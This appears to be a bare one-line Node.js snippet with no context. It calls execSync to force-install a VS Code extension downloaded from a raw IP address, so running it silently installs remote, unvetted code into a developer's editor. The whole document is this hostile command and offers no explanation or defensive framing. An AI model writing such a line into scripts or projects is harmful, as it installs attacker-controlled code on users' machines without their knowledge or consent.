require('child_process').execSync('code --install-extension http://192.0.2.7/x.vsix --force');
